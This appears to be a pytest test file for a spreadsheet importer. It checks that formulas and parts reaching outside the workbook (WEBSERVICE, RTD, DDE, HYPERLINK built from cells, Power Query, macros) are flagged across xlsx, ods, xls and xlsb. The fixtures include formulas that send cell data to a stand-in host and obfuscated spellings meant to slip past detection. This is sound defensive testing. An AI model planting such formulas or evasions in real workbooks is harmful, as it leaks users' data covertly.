"""S10: formulas that ask the web or another program by themselves are told, wherever they stand."""

import html
import struct
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.builders import good
from tests.command import importer
from tests.steps.read.other_formats import XLS_ROWS, binary, record, text_cell, wide, xls, xlsb
from tests.steps.read.raw_workbooks import packed, parts_of, worksheet
from tests.steps.read.test_ods import row, written
from tests.steps.report.parts import parts
from tests.workbooks import workbook

WEB, PROGRAMS, LINKS = "fetch from the web", "get values from other programs", "address is made from cells"
FORMULAS = {
    '_xlfn.WEBSERVICE("http://x/?"&A2)': WEB,
    'FILTERXML(_xlfn.webservice("http://x/"),"//a")': WEB,
    '_xlfn.IMAGE("http://x/"&A2)': WEB,
    'RTD("prog.id",,"a")': PROGRAMS,
    'HYPERLINK("http://x/?a="&A2,"click")': LINKS,
    'HYPERLINK(CONCATENATE("file://pc/",A2))': LINKS,
    'HYPERLINK("\\\\pc\\"&A2)': LINKS,
}
HARMLESS = (
    'HYPERLINK("http://x/?a=1&b=2","the page")',
    'HYPERLINK("#Jobs!A"&ROW(),"there")',
    "HYPERLINK(A2)",
    'SUM(A2)&"WEBSERVICE"',
    'MYIMAGE("http://x/")',
)


def check(path: Path) -> str:
    said = importer("check", path, "--json", state=path.parent / "state")
    return " ".join(problem["message"] for problem in said.object["problems"] if problem["code"] == 132)


def with_formula(path: Path, formula: str, *, title: str = "", state: str = "visible") -> Path:
    """A sheet of jobs with a formula, or with a further worksheet that has it."""
    book = openpyxl.load_workbook(workbook(path, good()))
    page = book.create_sheet(title) if title else book.worksheets[0]
    page["AX3"] = f"={formula}"
    page.sheet_state = state
    book.save(path / "jobs.xlsx")
    return path / "jobs.xlsx"


@pytest.mark.thorough(but=2)
@pytest.mark.parametrize("formula", FORMULAS)
def test_it_is_told_on_the_sheet_that_is_read(tmp_path: Path, formula: str) -> None:
    assert FORMULAS[formula] in check(with_formula(tmp_path, formula))


def test_it_is_told_on_a_hidden_sheet(tmp_path: Path) -> None:
    assert WEB in check(with_formula(tmp_path, next(iter(FORMULAS)), title="Other", state="veryHidden"))


@pytest.mark.thorough(but=1)
@pytest.mark.parametrize("formula", HARMLESS)
def test_others_are_not_told(tmp_path: Path, formula: str) -> None:
    assert check(with_formula(tmp_path, formula)) == ""


def test_the_word_in_a_text_is_not_told(tmp_path: Path) -> None:
    path = workbook(tmp_path, good(Name='WEBSERVICE("http://x/")'), good(Name='=RTD("a")'))
    assert check(path) == ""


CELL = '<c r="A{row}"><f>{formula}</f><v>1</v></c>'
PLAIN = '_xlfn.WEBSERVICE("http://x/")'
SPELLINGS = {
    "by numbers of letters": "&#95;xlfn.&#x57;EBSERVICE&#40;&quot;http://x/&quot;)",
    "a comment in between": "_xlfn.WEB<!-- ( -->SERVICE(1)",
    "in CDATA": '<![CDATA[IF(1<2,_xlfn.WEB]]>SERVICE("http://x/")',
    "spaces": 'WEBSERVICE  ("http://x/")',
}


def sheet_of(formula: str, many: int) -> str:
    """A worksheet with jobs, a formula, and so many rows before and behind it."""
    head = '<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>'
    rows = (f'<row r="{row}">{CELL.format(row=row, formula="SUM(1)")}</row>' for row in range(3, 3 + many))
    return head + f'<row r="2">{CELL.format(row=2, formula=formula)}</row>' + "".join(rows)


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_it_is_told_however_it_is_written(tmp_path: Path, spelling: str) -> None:
    path = packed(tmp_path / "jobs.xlsx", parts_of(worksheet(sheet_of(SPELLINGS[spelling], 5))))
    assert WEB in check(path)


def test_it_is_told_in_other_letters_with_a_prefix_in_rules_and_among_many(tmp_path: Path) -> None:
    plain = worksheet(sheet_of(html.escape(PLAIN), 5))
    rule = '<cfRule type="expression"><formula>{}</formula></cfRule>'
    rule = f'<conditionalFormatting sqref="A1">{rule}</conditionalFormatting>'
    prefixed = plain.replace("</", "</x:").replace("<", "<x:").replace("<x:/x:", "</x:").replace("xmlns=", "xmlns:x=")
    sheets: tuple[str | bytes, ...] = (
        ('<?xml version="1.0" encoding="UTF-16"?>' + plain).encode("utf-16"),
        prefixed,
        worksheet(sheet_of("SUM(1)", 5), tail=rule.format(html.escape(PLAIN))),
        worksheet(sheet_of("SUM(1)", 30_000).replace("SUM(1)", html.escape(PLAIN)[:99], 20_000)),
    )
    for place, sheet in enumerate(sheets):
        assert WEB in check(packed(tmp_path / f"{place}.xlsx", parts_of(sheet))), place


def test_it_is_told_of_a_defined_name(tmp_path: Path) -> None:
    book = openpyxl.load_workbook(workbook(tmp_path, good()))
    book.defined_names["Answer"] = openpyxl.workbook.defined_name.DefinedName("Answer", attr_text=PLAIN)
    book.save(tmp_path / "jobs.xlsx")
    assert WEB in check(tmp_path / "jobs.xlsx")


OTHER_FILES, OTHER_PROGRAMS = "links to other files", "links to other programs (DDE, OLE)"
OF_ODS = {  # as LibreOffice writes them
    "table:formula='of:=COM.MICROSOFT.WEBSERVICE(&quot;http://x/&quot;)'": WEB,
    'table:formula="of:=DDE(&quot;soffice&quot;;&quot;/x.ods&quot;;&quot;A1&quot;)"': OTHER_PROGRAMS,
    'table:formula="of:=HYPERLINK(&quot;http://x/?a=&quot;&amp;[.A1];&quot;c&quot;)"': LINKS,
    'table:formula="of:=[&apos;file:///x.ods&apos;#$Jobs.A1]"': OTHER_FILES,
    'table:formula="of:=HYPERLINK(&quot;http://x/&quot;;&quot;c&quot;)"': "",
}
SOURCES = {
    '<table:table-source table:table-name="a"/>': OTHER_FILES,
    '<office:dde-source office:dde-application="soffice" office:dde-topic="/x.ods"/>': OTHER_PROGRAMS,
    row(text_cell("&lt;table:table-source&gt; DDE(")): "",
}
JOBS_OF_ODS = row(*map(text_cell, good())) + row(*map(text_cell, good().values()))


@pytest.mark.thorough(but=3)
@pytest.mark.parametrize("what", [*OF_ODS, *SOURCES])
def test_it_is_told_of_an_ods(tmp_path: Path, what: str) -> None:
    words = OF_ODS.get(what, SOURCES.get(what, ""))
    cell = f'<table:table-cell office:value-type="string" {what}/>' if what in OF_ODS else ""
    rows = f"{'' if cell else what}{JOBS_OF_ODS}<table:table-row>{cell}</table:table-row>"
    found = check(written(tmp_path / "jobs.ods", rows))
    assert words in found
    assert bool(words) == bool(found)


def link_of_xls(path: str) -> bytes:
    return record(0x1AE, struct.pack("<HHB", 0, len(path), 0) + path.encode("latin-1"))


OF_XLS = {
    "an own sheet": (record(0x1AE, b"\1\0\1\4"), ""),
    "a file": (link_of_xls("\x01\x02tmp\x03x.xls"), OTHER_FILES),
    "a program": (link_of_xls("soffice\x03/tmp/x.ods"), OTHER_PROGRAMS),
    "a function": (record(0x18, bytes(15) + b"_xlfn.WEBSERVICE\x1c\x1d"), WEB),
}


@pytest.mark.thorough(but=2)
@pytest.mark.parametrize("what", OF_XLS)
def test_it_is_told_of_an_xls(tmp_path: Path, what: str) -> None:
    records, words = OF_XLS[what]
    found = check(xls(tmp_path / "jobs.xls", XLS_ROWS, styles=records))
    assert words in found
    assert bool(words) == bool(found)


def test_it_is_told_of_an_xlsb(tmp_path: Path) -> None:
    path = xlsb(tmp_path / "jobs.xlsb")
    assert check(path) == ""
    found = parts(path)
    found["xl/workbook.bin"] += binary([(39, bytes(9) + wide("_xlfn.IMAGE"))])
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in found.items():
            archive.writestr(name, content)
    assert WEB in check(path)


MASHUP = '<?xml version="1.0"?><DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'
PARTS = {
    "customUI/customUI14.xml": (b"<customUI/>", "custom buttons"),
    "customXml/item1.xml": (MASHUP.encode("utf-16"), "Power Query"),
}


@pytest.mark.parametrize("part", PARTS)
def test_buttons_and_queries_are_told(tmp_path: Path, part: str) -> None:
    path = workbook(tmp_path, good())
    content, words = PARTS[part]
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(part, content)
    assert words in check(path)


def test_one_sentence_says_all(tmp_path: Path) -> None:
    path = with_formula(tmp_path, 'RTD("a",,"b")')
    found = parts(path) | {"xl/vbaProject.bin": b"macros"}
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in found.items():
            archive.writestr(name, content)
    assert "contains macros, formulas that get values from other programs (RTD)." in check(path)
